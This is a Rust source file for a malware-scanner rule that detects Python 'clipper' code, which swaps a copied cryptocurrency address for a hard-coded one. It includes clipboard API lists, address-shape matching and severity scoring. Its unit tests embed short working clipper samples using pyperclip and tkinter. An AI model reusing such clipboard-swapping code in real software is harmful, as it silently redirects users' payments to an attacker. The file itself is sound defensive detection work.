//! WH220 clipper: replacing what the user copied with a wallet address the code carries.

use ruff_python_ast::ExprCall;
use ruff_text_size::Ranged;

use crate::finding::{Category, ExecContext, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH220",
    name: "clipper",
    description: "Writes a hard-coded cryptocurrency address to the clipboard, above all after reading it",
    rationale: "A clipper watches the clipboard and, when the user copies a wallet address to pay \
                someone, swaps in the attacker's: the payment goes astray and nothing looks \
                wrong. A donate button copying its author's address is the one innocent use, so \
                a copy alone weighs a little; reading the clipboard in the same file and writing \
                a fixed address back is the clipper's whole loop.",
    category: Category::Sink,
};

/// Calls that read what the user copied.
fn reads_clipboard(qualname: &str) -> bool {
    matches!(
        qualname,
        "pyperclip.paste"
            | "pyperclip.waitForNewPaste"
            | "pyperclip.waitForPaste"
            | "clipboard.paste"
            | "win32clipboard.GetClipboardData"
            | "xerox.paste"
            | "pandas.read_clipboard"
    ) || qualname.ends_with(".clipboard_get")
}

/// Calls that replace the clipboard with their first argument.
fn writes_clipboard(qualname: &str) -> bool {
    matches!(
        qualname,
        "pyperclip.copy"
            | "clipboard.copy"
            | "win32clipboard.SetClipboardText"
            | "win32clipboard.SetClipboardData"
            | "xerox.copy"
    ) || qualname.ends_with(".clipboard_append")
}

const BASE58: &str = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
const BECH32: &str = "023456789acdefghjklmnpqrstuvwxyz";

/// The currency whose address `text` is, by the address's own shape.
pub fn wallet_address(text: &str) -> Option<&'static str> {
    let text = text.trim();
    let len = text.len();
    // Every string literal of a module is asked: the shortest address has 26 characters and
    // the longest (Monero's) 95, so most texts are turned away by their length alone.
    if !(26..=100).contains(&len) {
        return None;
    }
    let all_in = |s: &str, alphabet: &str| {
        !s.is_empty() && s.bytes().all(|b| alphabet.as_bytes().contains(&b))
    };
    if let Some(hex) = text.strip_prefix("0x")
        && hex.len() == 40
        && hex.bytes().all(|b| b.is_ascii_hexdigit())
    {
        return Some("Ethereum");
    }
    for (prefix, coin) in [("bc1", "Bitcoin"), ("ltc1", "Litecoin")] {
        if let Some(rest) = text.strip_prefix(prefix)
            && (38..=60).contains(&rest.len())
            && all_in(rest, BECH32)
        {
            return Some(coin);
        }
    }
    if !all_in(text, BASE58) {
        return None;
    }
    match (text.chars().next(), len) {
        (Some('1' | '3'), 26..=35) => Some("Bitcoin"),
        (Some('T'), 34) => Some("Tron"),
        (Some('L' | 'M'), 26..=34) => Some("Litecoin"),
        (Some('D'), 34) => Some("Dogecoin"),
        (Some('4' | '8'), 95) => Some("Monero"),
        _ => None,
    }
}

/// Notes wallet address literals, for writes that pick one at run time.
pub fn check_string(checker: &mut Checker, value: &str) {
    if value.len() <= 100
        && let Some(coin) = wallet_address(value)
    {
        checker.note_wallet_literal(value, coin);
    }
}

/// Clipboard reads and writes.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if reads_clipboard(qualname) {
        checker.note_clipboard_read();
        return;
    }
    if !writes_clipboard(qualname) {
        return;
    }
    let Some(arg) = call.arguments.args.last() else {
        return;
    };
    let swaps = checker.has_read_clipboard();
    // `for pattern, mine in SWAPS: ... clipboard_append(mine)`: the address written is one of
    // the module's own address literals, picked at run time; only a file that also reads the
    // clipboard counts that way.
    let (address, coin) = match checker.fold(arg).and_then(|v| v.as_text()) {
        Some(address) => match wallet_address(&address) {
            Some(coin) => (address, coin),
            None => return,
        },
        None if swaps && matches!(arg, ruff_python_ast::Expr::Name(_)) => {
            match checker.wallet_literal() {
                Some((address, coin)) => (address.clone(), *coin),
                None => return,
            }
        }
        None => return,
    };
    let context = checker.context();
    let severity = match (context, swaps) {
        (ExecContext::TestOrDocs, _) => 0.1,
        (ExecContext::Install | ExecContext::Import, true) => 0.95,
        (ExecContext::Runtime, true) => 0.85,
        (ExecContext::Install | ExecContext::Import, false) => 0.5,
        (ExecContext::Runtime, false) => 0.1,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{qualname} puts the {coin} address `{}` on the clipboard{} {}",
            crate::text::shorten(&address, 64),
            if swaps {
                " in a file that reads what the user copied: a clipper"
            } else {
                ""
            },
            context.phrase()
        ),
        severity,
        vec!["clipper"],
    );
}

#[cfg(test)]
mod tests {
    use super::wallet_address;
    use crate::rules::testing::max_severity;

    #[test]
    fn addresses_are_known_by_their_shape() {
        assert_eq!(
            wallet_address("bc1qqwkpp77ya9qavyh8sm8e4usad45fwlusg7vs5v"),
            Some("Bitcoin")
        );
        assert_eq!(
            wallet_address("0x18c36eBd7A5d9C3b88995D6872BCe11a080Bc4d9"),
            Some("Ethereum")
        );
        assert_eq!(
            wallet_address("TWStXoQpXzVL8mx1ejiVmkgeUVGjZz8LRx"),
            Some("Tron")
        );
        assert_eq!(
            wallet_address("1BoatSLRHtKNngkdXEeobR76b53LETtpyT"),
            Some("Bitcoin")
        );
        assert_eq!(wallet_address("hello world"), None);
        assert_eq!(wallet_address("0x1234"), None);
    }

    #[test]
    fn swapping_a_copied_address_is_a_clipper() {
        let code = "import re, time, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\ndef watch():\n    while True:\n        if BTC.match(pyperclip.paste()):\n            pyperclip.copy('bc1qqwkpp77ya9qavyh8sm8e4usad45fwlusg7vs5v')\n        time.sleep(0.5)\n";
        assert!(max_severity("p/pkg/clip.py", code, "WH220") >= 0.85);
        let picked = "import re, tkinter\nSWAPS = [(re.compile(r'^0x[a-fA-F0-9]{40}$'), '0x7a3F9c1E2b4D5e6F708192A3b4C5d6E7f8091a2B')]\ndef tick(root):\n    text = root.clipboard_get()\n    for rx, mine in SWAPS:\n        if rx.match(text):\n            root.clipboard_clear()\n            root.clipboard_append(mine)\n";
        assert!(max_severity("p/pkg/__init__.py", picked, "WH220") >= 0.8);
        let echo = "import tkinter\nDONATE = '0x7a3F9c1E2b4D5e6F708192A3b4C5d6E7f8091a2B'\ndef upper(root):\n    text = root.clipboard_get()\n    root.clipboard_append(text.upper())\n";
        assert!(max_severity("p/pkg/__init__.py", echo, "WH220") < 0.5);
        let donate = "import pyperclip\ndef donate():\n    pyperclip.copy('bc1qqwkpp77ya9qavyh8sm8e4usad45fwlusg7vs5v')\n";
        assert!(max_severity("p/pkg/about.py", donate, "WH220") < 0.2);
        let text =
            "import pyperclip\ndef share(s):\n    pyperclip.copy(pyperclip.paste().upper())\n";
        assert_eq!(max_severity("p/pkg/about.py", text, "WH220"), 0.0);
    }
}
